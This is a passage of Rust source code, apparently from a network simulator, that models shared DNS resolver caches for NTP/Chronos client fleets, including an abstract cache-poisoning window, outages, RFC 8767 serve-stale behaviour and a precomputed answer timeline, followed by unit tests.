pub enum DnsAnswer {
    /// A benign rotation batch (`per_response` addresses, identified by
    /// the rotation residue `batch % rotation_batches`).
    Benign {
        /// Rotation batch identity.
        batch: u64,
        /// Record TTL, seconds.
        ttl_secs: u32,
    },
    /// The attacker's record set.
    Poisoned {
        /// Malicious records in the response.
        farm_size: usize,
        /// Record TTL, seconds.
        ttl_secs: u32,
    },
    /// An expired benign batch served under the RFC 8767 serve-stale
    /// policy (outage or SERVFAIL rescue). Carries [`STALE_TTL_SECS`].
    StaleBenign {
        /// Rotation batch identity of the stale entry.
        batch: u64,
    },
    /// The attacker's record set served *past* its TTL under serve-stale
    /// — the policy extending the poisoning window. Carries
    /// [`STALE_TTL_SECS`].
    StalePoisoned {
        /// Malicious records in the stale entry.
        farm_size: usize,
    },
    /// The query failed: a SERVFAIL, or an outage with nothing serveable
    /// from the (possibly stale) cache.
    Fail,
}

/// One client's static pool-query schedule, the input to the timeline
/// pre-pass: queries fire at `start + k·interval` for `k < rounds`.
/// A plain-NTP client is `{ start, interval: 0, rounds: 1 }`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct QuerySchedule {
    /// First query time, ns.
    pub start_ns: u64,
    /// Spacing between queries, ns (irrelevant when `rounds == 1`).
    pub interval_ns: u64,
    /// Number of queries.
    pub rounds: u64,
}

/// One resolver's cache (shared by every client assigned to it, or
/// consulted read-only per client — see
/// [`FleetConfig::shared_cache`](crate::config::FleetConfig::shared_cache)).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ResolverModel {
    ttl_ns: u64,
    benign_ttl_secs: u32,
    /// Rotation phase: this resolver's upstream fetches start `phase`
    /// batches into the rotation (0 for the legacy resolver 0).
    phase: u64,
    poison: Option<(u64, u64, usize, u32)>, // (from, until, farm, ttl)
    /// This resolver's outage windows `(start_ns, end_ns)`, sorted and
    /// non-overlapping (from [`crate::config::FaultPlan::outages`]).
    outages: Vec<(u64, u64)>,
    /// Serve-stale budget in ns (`None`: no RFC 8767, fail instead).
    max_stale_ns: Option<u64>,
    /// Upstream fetches that succeeded (== batches served so far).
    cursor: u64,
    /// Upstream fetch *attempts* that failed: cache misses during an
    /// outage. A failed fetch is still a fetch ([`Self::fetches`]); a
    /// stale serve is not (it never contacts upstream).
    failed_fetches: u64,
    cached_batch: u64,
    cached_until: u64,
    primed: bool,
}

impl ResolverModel {
    /// The legacy single-resolver constructor: resolver 0 of `config`
    /// (phase 0, configured TTL, poisoned whenever an attack exists).
    pub fn new(config: &FleetConfig) -> Self {
        ResolverModel::for_resolver(config, 0)
    }

    /// The resolver with id `r` of `config`'s fleet: per-resolver rotation
    /// phase, TTL draw, and poisoned-or-not flag (see the module docs).
    pub fn for_resolver(config: &FleetConfig, r: usize) -> Self {
        // Resolver 0 keeps the configured TTL at exact nanosecond
        // resolution — the legacy contract (R = 1 byte-identical to the
        // pre-cohort engine) must hold for fractional TTLs too. Only the
        // perturbed resolvers 1..R quantize to whole seconds.
        let (phase, ttl_ns, ttl_secs) = if r == 0 {
            (
                0,
                config.benign_ttl.as_nanos(),
                config.benign_ttl.as_secs() as u32,
            )
        } else {
            let mut rng =
                FleetRng::from_seed(client_seed(config.seed ^ RESOLVER_TRAIT_SALT, r as u64));
            let phase = rng.range_u64(config.rotation_batches() as u64);
            // 0.5–1.5× the configured TTL, whole seconds, never zero.
            let base_secs = config.benign_ttl.as_secs().max(1);
            let ttl = (base_secs / 2 + rng.range_u64(base_secs)).max(1);
            (phase, ttl * 1_000_000_000, ttl as u32)
        };
        let poison = config.attack.and_then(|a| {
            if !a.poisons_resolver(r) {
                return None;
            }
            let (from, until) = a.window_ns();
            Some((from, until, a.farm_size, a.ttl_secs))
        });
        ResolverModel {
            ttl_ns,
            benign_ttl_secs: ttl_secs,
            phase,
            poison,
            outages: config
                .faults
                .resolver_outages(r)
                .iter()
                .map(|w| (w.start_ns, w.end_ns()))
                .collect(),
            max_stale_ns: config
                .faults
                .serve_stale
                .map(|s| s.max_stale_secs.saturating_mul(1_000_000_000)),
            cursor: 0,
            failed_fetches: 0,
            cached_batch: 0,
            cached_until: 0,
            primed: false,
        }
    }

    /// Empties the cache and rewinds the rotation (fleet-reuse support).
    pub fn reset(&mut self) {
        self.cursor = 0;
        self.failed_fetches = 0;
        self.cached_batch = 0;
        self.cached_until = 0;
        self.primed = false;
    }

    /// Upstream fetch attempts so far — a failed fetch (cache miss during
    /// an outage) is still a fetch; a stale serve is not (it is answered
    /// from cache without contacting upstream). Successful fetches alone
    /// equal `fetches() - failed_fetches()` (== batches served).
    pub fn fetches(&self) -> u64 {
        self.cursor + self.failed_fetches
    }

    /// Upstream fetch attempts that failed (cache misses during outages).
    pub fn failed_fetches(&self) -> u64 {
        self.failed_fetches
    }

    /// The end of the outage window containing `now_ns`, if any.
    fn outage_end_at(&self, now_ns: u64) -> Option<u64> {
        self.outages
            .iter()
            .find(|&&(s, e)| now_ns >= s && now_ns < e)
            .map(|&(_, e)| e)
    }

    /// The serve-stale answer at `now_ns`: the cache entry with the
    /// *latest write time* (a cache holds one entry per name, so the most
    /// recent write is what is in it), served while `now < expiry +
    /// max_stale` (RFC 8767), else [`DnsAnswer::Fail`]. The benign entry
    /// was written when it was fetched; a poison entry is written at the
    /// window opening (ties are impossible: no upstream fetch happens
    /// inside the poison window).
    fn stale_or_fail(&self, now_ns: u64) -> DnsAnswer {
        let Some(budget) = self.max_stale_ns else {
            return DnsAnswer::Fail;
        };
        let benign = self.primed.then(|| {
            (
                self.cached_until.saturating_sub(self.ttl_ns),
                self.cached_until,
                DnsAnswer::StaleBenign {
                    batch: self.cached_batch,
                },
            )
        });
        let poisoned = self.poison.and_then(|(from, until, farm_size, _)| {
            (now_ns >= from).then_some((from, until, DnsAnswer::StalePoisoned { farm_size }))
        });
        let candidate = match (benign, poisoned) {
            (Some(b), Some(p)) => Some(if p.0 >= b.0 { p } else { b }),
            (b, p) => b.or(p),
        };
        match candidate {
            Some((_, expiry, answer)) if now_ns < expiry.saturating_add(budget) => answer,
            _ => DnsAnswer::Fail,
        }
    }

    /// This resolver's rotation phase (0 for the legacy resolver 0).
    pub fn rotation_phase(&self) -> u64 {
        self.phase
    }

    /// Whether this resolver serves the attacker's records (at any time).
    pub fn is_poisoned(&self) -> bool {
        self.poison.is_some()
    }

    /// Answers a query through the shared cache at `now_ns`.
    ///
    /// Fault semantics: the poison window and a fresh cached batch are
    /// *cache hits* — they answer even during an outage (the attacker
    /// injects the cache directly, and hits never contact upstream). A
    /// cache miss during an outage is a failed upstream fetch; the
    /// resolver then serves stale (RFC 8767, if configured and within
    /// budget) or fails the query.
    pub fn query_shared(&mut self, now_ns: u64) -> DnsAnswer {
        if let Some((from, until, farm_size, ttl_secs)) = self.poison {
            if now_ns >= from && now_ns < until {
                return DnsAnswer::Poisoned {
                    farm_size,
                    ttl_secs,
                };
            }
        }
        if self.primed && now_ns < self.cached_until {
            return DnsAnswer::Benign {
                batch: self.cached_batch,
                ttl_secs: self.benign_ttl_secs,
            };
        }
        if self.outage_end_at(now_ns).is_some() {
            self.failed_fetches += 1;
            return self.stale_or_fail(now_ns);
        }
        self.cached_batch = self.phase + self.cursor;
        self.cursor += 1;
        self.cached_until = now_ns.saturating_add(self.ttl_ns);
        self.primed = true;
        DnsAnswer::Benign {
            batch: self.cached_batch,
            ttl_secs: self.benign_ttl_secs,
        }
    }

    /// Answers a query for an *independent* client (no shared cache): the
    /// client's `round` index is its private rotation position, offset by
    /// this resolver's phase. With no shared cache there is nothing to
    /// serve stale from, so an outage (outside the poison window) simply
    /// fails the query.
    pub fn query_independent(&self, now_ns: u64, round: u64) -> DnsAnswer {
        if let Some((from, until, farm_size, ttl_secs)) = self.poison {
            if now_ns >= from && now_ns < until {
                return DnsAnswer::Poisoned {
                    farm_size,
                    ttl_secs,
                };
            }
        }
        if self.outage_end_at(now_ns).is_some() {
            return DnsAnswer::Fail;
        }
        DnsAnswer::Benign {
            batch: self.phase + round,
            ttl_secs: self.benign_ttl_secs,
        }
    }

    /// Precomputes the shared cache's full answer timeline for the clients
    /// assigned to this resolver, given their static query `schedules`.
    ///
    /// This is the deterministic pre-pass that makes intra-fleet
    /// parallelism possible: the cache is the only cross-client coupling,
    /// and its state advances *only* at query times — which are static
    /// (`start + k·interval`, independent of what the answers contain).
    /// The replay runs [`ResolverModel::query_shared`] itself on a scratch
    /// copy, visiting one query per answer-change boundary (a cache expiry
    /// or a poison-window edge) and skipping the runs of queries in
    /// between, which provably return the boundary query's answer without
    /// touching cache state. The result answers any actual query time
    /// read-only — and therefore concurrently from every shard. See the
    /// module-level example.
    pub fn timeline(&self, schedules: &[QuerySchedule]) -> ResolverTimeline {
        let mut sim = self.clone();
        sim.reset();
        let mut segments: Vec<(u64, DnsAnswer)> = Vec::new();
        let mut writes: Vec<(u64, u64, DnsAnswer)> = Vec::new();
        let mut t = next_query_at_or_after(schedules, 0);
        while let Some(tq) = t {
            let cursor_before = sim.cursor;
            let answer = sim.query_shared(tq);
            if sim.cursor > cursor_before {
                // A successful upstream fetch wrote the cache: record it
                // for serve-stale lookups ([`ResolverTimeline::stale_answer`]).
                writes.push((
                    tq,
                    sim.cached_until,
                    DnsAnswer::StaleBenign {
                        batch: sim.cached_batch,
                    },
                ));
            }
            if segments.last().map(|&(_, a)| a) != Some(answer) {
                segments.push((tq, answer));
            }
            // The answer — and the cache state — cannot change before the
            // next boundary: a poisoned window runs to its end; a benign
            // answer holds until the cached batch expires or the poison
            // window opens; a stale/failed answer holds until the outage
            // lifts, the stale budget runs out, or the poison window
            // opens (nothing writes the cache during an outage).
            let boundary = match answer {
                DnsAnswer::Poisoned { .. } => {
                    let (_, until, _, _) = sim.poison.expect("poisoned answer implies a window");
                    until
                }
                DnsAnswer::Benign { .. } => {
                    let mut b = sim.cached_until;
                    if let Some((from, _, _, _)) = sim.poison {
                        if from > tq {
                            b = b.min(from);
                        }
                    }
                    b
                }
                DnsAnswer::StaleBenign { .. }
                | DnsAnswer::StalePoisoned { .. }
                | DnsAnswer::Fail => {
                    let mut b = sim
                        .outage_end_at(tq)
                        .expect("stale/failed answers only happen inside outages");
                    if let Some(budget) = sim.max_stale_ns {
                        match answer {
                            DnsAnswer::StaleBenign { .. } => {
                                b = b.min(sim.cached_until.saturating_add(budget));
                            }
                            DnsAnswer::StalePoisoned { .. } => {
                                let (_, until, _, _) =
                                    sim.poison.expect("stale poison implies a window");
                                b = b.min(until.saturating_add(budget));
                            }
                            _ => {}
                        }
                    }
                    if let Some((from, _, _, _)) = sim.poison {
                        if from > tq {
                            b = b.min(from);
                        }
                    }
                    // Every query this segment skips was one more failed
                    // upstream attempt (the visited one is already
                    // counted inside `query_shared`).
                    sim.failed_fetches +=
                        count_queries_in(schedules, tq, b.max(tq + 1)).saturating_sub(1);
                    b
                }
            };
            t = next_query_at_or_after(schedules, boundary.max(tq + 1));
        }
        // The poison landing is a cache write too (the attacker injects
        // the entry directly): merge it into time order for stale lookups.
        if let Some((from, until, farm_size, _)) = sim.poison {
            let i = writes.partition_point(|&(w, _, _)| w <= from);
            writes.insert(i, (from, until, DnsAnswer::StalePoisoned { farm_size }));
        }
        ResolverTimeline {
            segments,
            writes,
            max_stale_ns: sim.max_stale_ns,
            fetches: sim.cursor,
            failed_fetches: sim.failed_fetches,
        }
    }
}

/// Number of scheduled queries with time in `[lo, hi)`.
fn count_queries_in(schedules: &[QuerySchedule], lo: u64, hi: u64) -> u64 {
    schedules
        .iter()
        .map(|s| {
            if s.rounds == 0 || hi <= s.start_ns {
                return 0;
            }
            if s.interval_ns == 0 {
                // All of this client's queries fired at `start`.
                return if s.start_ns >= lo { s.rounds } else { 0 };
            }
            let k_lo = if s.start_ns >= lo {
                0
            } else {
                (lo - s.start_ns).div_ceil(s.interval_ns)
            };
            let k_hi = ((hi - 1 - s.start_ns) / s.interval_ns + 1).min(s.rounds);
            k_hi.saturating_sub(k_lo.min(s.rounds))
        })
        .sum()
}

/// The first pool-query time at or after `from` across the given client
/// query schedules.
fn next_query_at_or_after(schedules: &[QuerySchedule], from: u64) -> Option<u64> {
    schedules
        .iter()
        .filter_map(|s| {
            if from <= s.start_ns {
                return Some(s.start_ns);
            }
            if s.interval_ns == 0 {
                return None; // all of this client's queries were at `start`
            }
            let k = (from - s.start_ns).div_ceil(s.interval_ns);
            (k < s.rounds).then(|| s.start_ns + k * s.interval_ns)
        })
        .min()
}

/// The precomputed answer function of one shared resolver cache over one
/// run: `(start_ns, answer)` segments, piecewise-constant between actual
/// query times (see [`ResolverModel::timeline`]). Immutable after
/// construction, so shards stepping in parallel read it without
/// synchronization.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct ResolverTimeline {
    segments: Vec<(u64, DnsAnswer)>,
    /// Every cache write of the replay — `(write_ns, expiry_ns, entry)`
    /// with the entry in its stale form — in time order, for SERVFAIL
    /// serve-stale lookups.
    writes: Vec<(u64, u64, DnsAnswer)>,
    /// The resolver's serve-stale budget, ns (`None`: fail instead).
    max_stale_ns: Option<u64>,
    fetches: u64,
    failed_fetches: u64,
}

impl ResolverTimeline {
    /// A timeline with no queries (independent-cache fleets, or a
    /// resolver no client hashed onto).
    pub fn empty() -> Self {
        ResolverTimeline::default()
    }

    /// The answer every query at `now_ns` receives.
    ///
    /// # Panics
    ///
    /// Panics when `now_ns` precedes the first recorded query — a query
    /// time the pre-pass did not know about, which would mean the static
    /// query schedule and the engine disagree.
    pub fn answer(&self, now_ns: u64) -> DnsAnswer {
        let i = self.segments.partition_point(|&(start, _)| start <= now_ns);
        assert!(i > 0, "query at {now_ns} ns precedes the resolver timeline");
        self.segments[i - 1].1
    }

    /// Upstream fetch attempts of the replay — failed attempts included,
    /// stale serves not, matching [`ResolverModel::fetches`].
    pub fn fetches(&self) -> u64 {
        self.fetches + self.failed_fetches
    }

    /// Upstream fetch attempts that failed (cache misses during outages).
    pub fn failed_fetches(&self) -> u64 {
        self.failed_fetches
    }

    /// Number of answer-change segments recorded.
    pub fn segments(&self) -> usize {
        self.segments.len()
    }

    /// The RFC 8767 answer a SERVFAIL-hit query at `now_ns` receives:
    /// the cache entry with the latest write at or before `now_ns`,
    /// served (in its stale form) while `now < expiry + max_stale`, else
    /// [`DnsAnswer::Fail`]. With no serve-stale policy every SERVFAIL
    /// fails outright — even when the cache still holds a fresh entry,
    /// because the SERVFAIL models the resolver's recursive lookup
    /// machinery failing, not a cache miss.
    pub fn stale_answer(&self, now_ns: u64) -> DnsAnswer {
        let Some(budget) = self.max_stale_ns else {
            return DnsAnswer::Fail;
        };
        let i = self.writes.partition_point(|&(w, _, _)| w <= now_ns);
        if i == 0 {
            return DnsAnswer::Fail;
        }
        let (_, expiry, entry) = self.writes[i - 1];
        if now_ns < expiry.saturating_add(budget) {
            entry
        } else {
            DnsAnswer::Fail
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::FleetAttack;
    use netsim::time::{SimDuration, SimTime};

    const SEC: u64 = 1_000_000_000;

    fn config(attack: Option<FleetAttack>) -> FleetConfig {
        FleetConfig {
            attack,
            ..FleetConfig::default()
        }
    }

    /// Uniform schedules, the shape every pre-cohort test used.
    fn uniform(starts: &[u64], interval_ns: u64, rounds: u64) -> Vec<QuerySchedule> {
        starts
            .iter()
            .map(|&start_ns| QuerySchedule {
                start_ns,
                interval_ns,
                rounds,
            })
            .collect()
    }

    #[test]
    fn shared_cache_serves_one_batch_per_ttl_window() {
        let mut r = ResolverModel::new(&config(None));
        let a = r.query_shared(0);
        let b = r.query_shared(100 * SEC); // inside the 150 s TTL
        assert_eq!(a, b, "cached batch is shared");
        let c = r.query_shared(151 * SEC);
        assert!(matches!(c, DnsAnswer::Benign { batch: 1, .. }));
        assert_eq!(r.fetches(), 2);
    }

    #[test]
    fn poison_window_freezes_the_cache_for_everyone() {
        let attack =
            FleetAttack::paper_default(SimTime::from_secs(500), SimDuration::from_millis(500));
        let mut r = ResolverModel::new(&config(Some(attack)));
        assert!(matches!(r.query_shared(0), DnsAnswer::Benign { .. }));
        for t in [500u64, 600, 86_000, 86_900] {
            assert!(
                matches!(
                    r.query_shared(t * SEC),
                    DnsAnswer::Poisoned { farm_size: 89, .. }
                ),
                "t={t}s inside the window"
            );
        }
        // 500 + 86 401 s: the poisoned entry finally expires.
        assert!(matches!(
            r.query_shared(86_901 * SEC),
            DnsAnswer::Benign { .. }
        ));
    }

    #[test]
    fn independent_mode_keys_rotation_by_round() {
        let r = ResolverModel::new(&config(None));
        assert!(matches!(
            r.query_independent(0, 0),
            DnsAnswer::Benign { batch: 0, .. }
        ));
        assert!(matches!(
            r.query_independent(0, 7),
            DnsAnswer::Benign { batch: 7, .. }
        ));
    }

    #[test]
    fn resolver_zero_is_the_legacy_resolver() {
        let cfg = config(None);
        let r0 = ResolverModel::for_resolver(&cfg, 0);
        assert_eq!(r0.rotation_phase(), 0);
        assert_eq!(r0, ResolverModel::new(&cfg));
        // The legacy contract holds at nanosecond resolution: a
        // fractional benign TTL must not be quantized on resolver 0
        // (pre-cohort, ttl_ns was exactly `benign_ttl.as_nanos()`).
        let fractional = FleetConfig {
            benign_ttl: SimDuration::from_millis(500),
            ..config(None)
        };
        let mut r0 = ResolverModel::for_resolver(&fractional, 0);
        assert_eq!(r0.ttl_ns, 500_000_000);
        let a = r0.query_shared(0);
        assert_eq!(r0.query_shared(499_000_000), a, "still cached at 499 ms");
        assert_ne!(r0.query_shared(SEC / 2), a, "expired at exactly 500 ms");
    }

    #[test]
    fn additional_resolvers_draw_phase_and_ttl() {
        let mut cfg = config(None);
        cfg.resolvers = 16;
        let batches = cfg.rotation_batches() as u64;
        let models: Vec<ResolverModel> = (0..16)
            .map(|r| ResolverModel::for_resolver(&cfg, r))
            .collect();
        // Deterministic per (seed, id)…
        for (r, m) in models.iter().enumerate() {
            assert_eq!(m, &ResolverModel::for_resolver(&cfg, r));
            assert!(m.rotation_phase() < batches);
            // TTL stays within the documented 0.5–1.5× band.
            let base = cfg.benign_ttl.as_secs();
            assert!(m.ttl_ns >= base / 2 * SEC && m.ttl_ns < (base + base / 2 + 1) * SEC);
        }
        // …but not all in lockstep: phases and TTLs vary across ids.
        assert!(
            models.iter().any(|m| m.rotation_phase() != 0),
            "some non-zero phase among 16 resolvers"
        );
        assert!(
            models.iter().any(|m| m.ttl_ns != models[0].ttl_ns),
            "some TTL diversity among 16 resolvers"
        );
        // A different fleet seed redraws the traits.
        let reseeded = ResolverModel::for_resolver(
            &FleetConfig {
                seed: cfg.seed + 1,
                ..cfg.clone()
            },
            3,
        );
        assert_ne!(
            (reseeded.rotation_phase(), reseeded.ttl_ns),
            (models[3].rotation_phase(), models[3].ttl_ns),
        );
        // The phase offsets rotation identity in both query modes.
        let phased: Vec<_> = models.iter().filter(|m| m.rotation_phase() > 0).collect();
        let m = phased[0];
        assert!(matches!(
            m.query_independent(0, 0),
            DnsAnswer::Benign { batch, .. } if batch == m.rotation_phase()
        ));
    }

    #[test]
    fn partial_poisoning_splits_the_resolver_set() {
        let attack =
            FleetAttack::paper_default(SimTime::from_secs(100), SimDuration::from_millis(500))
                .with_poisoned_resolvers(2);
        let mut cfg = config(Some(attack));
        cfg.resolvers = 4;
        for r in 0..4 {
            let m = ResolverModel::for_resolver(&cfg, r);
            assert_eq!(m.is_poisoned(), r < 2, "resolver {r}");
        }
        // `None` poisons every resolver (the legacy semantics).
        let all =
            FleetAttack::paper_default(SimTime::from_secs(100), SimDuration::from_millis(500));
        assert!(all.poisoned_resolvers.is_none());
        for r in 0..4 {
            assert!(ResolverModel::for_resolver(&config(Some(all)), r).is_poisoned());
        }
    }

    /// The pre-pass contract: for every actual query time, the timeline
    /// answers exactly what the incremental shared cache would have.
    fn assert_timeline_matches_incremental(model: &ResolverModel, schedules: &[QuerySchedule]) {
        let timeline = model.timeline(schedules);
        // Replay the exact query multiset in time order, incrementally.
        let mut times: Vec<u64> = schedules
            .iter()
            .flat_map(|s| (0..s.rounds).map(move |k| s.start_ns + k * s.interval_ns))
            .collect();
        times.sort_unstable();
        let mut incremental = model.clone();
        incremental.reset();
        for &t in &times {
            assert_eq!(
                timeline.answer(t),
                incremental.query_shared(t),
                "answer diverged at t={t} ns"
            );
        }
        assert_eq!(timeline.fetches(), incremental.fetches());
        assert_eq!(timeline.failed_fetches(), incremental.failed_fetches());
    }

    #[test]
    fn timeline_matches_incremental_cache_benign() {
        let model = ResolverModel::new(&config(None));
        // Staggered boots, queries denser and sparser than the 150 s TTL.
        let starts: Vec<u64> = (0..7).map(|i| i * 37 * SEC).collect();
        assert_timeline_matches_incremental(&model, &uniform(&starts, 200 * SEC, 6));
        assert_timeline_matches_incremental(&model, &uniform(&starts, 40 * SEC, 9));
        // A lone sparse client: every query refetches.
        assert_timeline_matches_incremental(&model, &uniform(&[5 * SEC], 400 * SEC, 8));
    }

    #[test]
    fn timeline_matches_incremental_cache_poisoned() {
        let early =
            FleetAttack::paper_default(SimTime::from_secs(300), SimDuration::from_millis(500));
        let starts: Vec<u64> = (0..9).map(|i| i * 53 * SEC).collect();
        let model = ResolverModel::new(&config(Some(early)));
        assert_timeline_matches_incremental(&model, &uniform(&starts, 200 * SEC, 24));
        // Poison opening mid-TTL-window and a short-TTL poison that ends
        // while the pre-poison benign batch is still fresh.
        let mid_window = FleetAttack {
            at: SimTime::from_secs(70),
            ttl_secs: 60,
            farm_size: 89,
            shift_ns: 500_000_000,
            poisoned_resolvers: None,
        };
        let model = ResolverModel::new(&config(Some(mid_window)));
        assert_timeline_matches_incremental(&model, &uniform(&starts, 25 * SEC, 30));
    }

    #[test]
    fn timeline_handles_heterogeneous_schedules() {
        // A Chronos cohort (24 rounds, 200 s apart) sharing the cache with
        // plain-NTP one-shot resolutions and a fast-cadence tier — the
        // cohort shapes PR 5 introduces.
        let mut schedules = uniform(&[0, 40 * SEC, 170 * SEC], 200 * SEC, 24);
        schedules.extend(uniform(&[15 * SEC, 400 * SEC, 401 * SEC], 0, 1));
        schedules.extend(uniform(&[90 * SEC], 64 * SEC, 50));
        let benign = ResolverModel::new(&config(None));
        assert_timeline_matches_incremental(&benign, &schedules);
        let attack =
            FleetAttack::paper_default(SimTime::from_secs(390), SimDuration::from_millis(500));
        let poisoned = ResolverModel::new(&config(Some(attack)));
        assert_timeline_matches_incremental(&poisoned, &schedules);
        // A phased non-zero resolver replays identically too.
        let mut cfg = config(Some(attack));
        cfg.resolvers = 8;
        assert_timeline_matches_incremental(&ResolverModel::for_resolver(&cfg, 5), &schedules);
    }

    #[test]
    fn timeline_lookup_shape() {
        let model = ResolverModel::new(&config(None));
        let tl = model.timeline(&uniform(&[0, 10 * SEC], 200 * SEC, 3));
        // One batch per 150 s window over the span: answers inside a
        // window are constant.
        assert_eq!(tl.answer(0), tl.answer(10 * SEC));
        assert!(tl.segments() >= 2, "rotation advanced across windows");
        assert_eq!(ResolverTimeline::empty().segments(), 0);
    }

    #[test]
    #[should_panic(expected = "precedes the resolver timeline")]
    fn timeline_rejects_queries_before_the_first() {
        let model = ResolverModel::new(&config(None));
        let tl = model.timeline(&uniform(&[10 * SEC], 200 * SEC, 2));
        tl.answer(SEC);
    }

    fn outage(start_s: u64, len_s: u64) -> crate::config::OutageWindow {
        crate::config::OutageWindow {
            start_ns: start_s * SEC,
            duration_ns: len_s * SEC,
        }
    }

    fn faulty_config(
        attack: Option<FleetAttack>,
        outages: Vec<Vec<crate::config::OutageWindow>>,
        max_stale_secs: Option<u64>,
    ) -> FleetConfig {
        FleetConfig {
            attack,
            faults: crate::config::FaultPlan {
                outages,
                serve_stale: max_stale_secs
                    .map(|s| crate::config::ServeStalePolicy { max_stale_secs: s }),
                ..crate::config::FaultPlan::default()
            },
            ..FleetConfig::default()
        }
    }

    #[test]
    fn outage_without_serve_stale_fails_cache_misses_only() {
        // Outage 200–400 s; the 150 s benign TTL expires inside it.
        let cfg = faulty_config(None, vec![vec![outage(200, 200)]], None);
        let mut r = ResolverModel::new(&cfg);
        let a = r.query_shared(0);
        assert!(matches!(a, DnsAnswer::Benign { batch: 0, .. }));
        // 210 s: inside the outage but the next query misses (TTL 150 s).
        assert_eq!(r.query_shared(210 * SEC), DnsAnswer::Fail);
        assert_eq!(r.query_shared(399 * SEC), DnsAnswer::Fail);
        // Outage over: a fresh fetch resumes the rotation where it left.
        assert!(matches!(
            r.query_shared(400 * SEC),
            DnsAnswer::Benign { batch: 1, .. }
        ));
        // Fetch accounting: 2 successes + 2 failures, no stale serves.
        assert_eq!(r.fetches(), 4);
        assert_eq!(r.failed_fetches(), 2);
    }

    #[test]
    fn fresh_cache_hits_survive_an_outage() {
        let cfg = faulty_config(None, vec![vec![outage(100, 40)]], None);
        let mut r = ResolverModel::new(&cfg);
        let a = r.query_shared(0);
        // 120 s: inside the outage but the 150 s entry is still fresh —
        // a cache hit needs no upstream.
        assert_eq!(r.query_shared(120 * SEC), a);
        assert_eq!(r.failed_fetches(), 0);
    }

    #[test]
    fn serve_stale_bridges_an_outage_within_budget() {
        // Outage 200–2000 s, stale budget 600 s, benign TTL 150 s.
        let cfg = faulty_config(None, vec![vec![outage(200, 1800)]], Some(600));
        let mut r = ResolverModel::new(&cfg);
        r.query_shared(100 * SEC); // entry expires at 250 s
        assert!(matches!(
            r.query_shared(300 * SEC),
            DnsAnswer::StaleBenign { batch: 0 }
        ));
        // Budget runs out at expiry (250 s) + 600 s = 850 s.
        assert!(matches!(
            r.query_shared(849 * SEC),
            DnsAnswer::StaleBenign { .. }
        ));
        assert_eq!(r.query_shared(850 * SEC), DnsAnswer::Fail);
        // A stale serve is not a fetch; a failed one is.
        assert_eq!(r.failed_fetches(), 3);
        assert_eq!(r.fetches(), 1 + 3);
    }

    #[test]
    fn serve_stale_extends_the_poison_past_its_ttl() {
        // Short poison 100–160 s, outage 150–700 s, stale budget 400 s:
        // the dead poisoned entry keeps being served until 160+400 s.
        let poison = FleetAttack {
            at: SimTime::from_secs(100),
            ttl_secs: 60,
            farm_size: 89,
            shift_ns: 500_000_000,
            poisoned_resolvers: None,
        };
        let cfg = faulty_config(Some(poison), vec![vec![outage(150, 550)]], Some(400));
        let mut r = ResolverModel::new(&cfg);
        assert!(matches!(
            r.query_shared(120 * SEC),
            DnsAnswer::Poisoned { .. }
        ));
        // Poison TTL over, outage on: the latest cache write is the
        // poison landing, so serve-stale re-serves the attacker.
        assert!(matches!(
            r.query_shared(200 * SEC),
            DnsAnswer::StalePoisoned { farm_size: 89 }
        ));
        assert!(matches!(
            r.query_shared(559 * SEC),
            DnsAnswer::StalePoisoned { .. }
        ));
        assert_eq!(r.query_shared(560 * SEC), DnsAnswer::Fail);
    }

    #[test]
    fn independent_queries_fail_during_outages() {
        let poison =
            FleetAttack::paper_default(SimTime::from_secs(300), SimDuration::from_millis(500));
        let cfg = faulty_config(Some(poison), vec![vec![outage(100, 100)]], Some(3600));
        let r = ResolverModel::new(&cfg);
        assert!(matches!(
            r.query_independent(50 * SEC, 0),
            DnsAnswer::Benign { .. }
        ));
        assert_eq!(r.query_independent(150 * SEC, 1), DnsAnswer::Fail);
        // The poison window still answers (cache injection, not upstream).
        let in_poison_outage = faulty_config(Some(poison), vec![vec![outage(250, 200)]], None);
        let r = ResolverModel::new(&in_poison_outage);
        assert!(matches!(
            r.query_independent(350 * SEC, 2),
            DnsAnswer::Poisoned { .. }
        ));
    }

    #[test]
    fn timeline_matches_incremental_cache_under_outages() {
        let starts: Vec<u64> = (0..9).map(|i| i * 53 * SEC).collect();
        let mut schedules = uniform(&starts, 200 * SEC, 24);
        schedules.extend(uniform(&[15 * SEC, 400 * SEC, 401 * SEC], 0, 1));
        schedules.extend(uniform(&[90 * SEC], 64 * SEC, 50));
        let attack =
            FleetAttack::paper_default(SimTime::from_secs(390), SimDuration::from_millis(500));
        let outage_sets = [
            vec![outage(200, 300)],
            vec![outage(0, 100), outage(600, 1200)],
            vec![outage(350, 100), outage(1000, 2500)],
        ];
        for attack in [None, Some(attack)] {
            for outages in &outage_sets {
                for stale in [None, Some(120), Some(3600)] {
                    let cfg = faulty_config(attack, vec![outages.clone()], stale);
                    let model = ResolverModel::new(&cfg);
                    assert_timeline_matches_incremental(&model, &schedules);
                    // A phased, perturbed-TTL resolver replays too.
                    let mut multi = cfg.clone();
                    multi.resolvers = 8;
                    multi.faults.outages = vec![outages.clone(); 6];
                    assert_timeline_matches_incremental(
                        &ResolverModel::for_resolver(&multi, 5),
                        &schedules,
                    );
                }
            }
        }
    }

    #[test]
    fn short_poison_inside_outage_replays_exactly() {
        // The nasty interleaving: poison opens *during* an outage, expires
        // before it lifts, and serve-stale bridges the remainder.
        let poison = FleetAttack {
            at: SimTime::from_secs(300),
            ttl_secs: 100,
            farm_size: 89,
            shift_ns: 500_000_000,
            poisoned_resolvers: None,
        };
        let cfg = faulty_config(Some(poison), vec![vec![outage(200, 900)]], Some(500));
        let starts: Vec<u64> = (0..7).map(|i| i * 37 * SEC).collect();
        let model = ResolverModel::new(&cfg);
        assert_timeline_matches_incremental(&model, &uniform(&starts, 40 * SEC, 40));
        let tl = model.timeline(&uniform(&starts, 40 * SEC, 40));
        assert!(tl.failed_fetches() > 0, "the outage forced failures");
    }

    #[test]
    fn stale_answer_serves_the_latest_write_within_budget() {
        let cfg = faulty_config(None, Vec::new(), Some(600));
        let model = ResolverModel::new(&cfg);
        let tl = model.timeline(&uniform(&[0], 200 * SEC, 3));
        // SERVFAIL rescue at 10 s: the 0 s fetch is the latest write.
        assert!(matches!(
            tl.stale_answer(10 * SEC),
            DnsAnswer::StaleBenign { batch: 0 }
        ));
        // At 300 s the latest write is the 200 s refetch (batch 1).
        assert!(matches!(
            tl.stale_answer(300 * SEC),
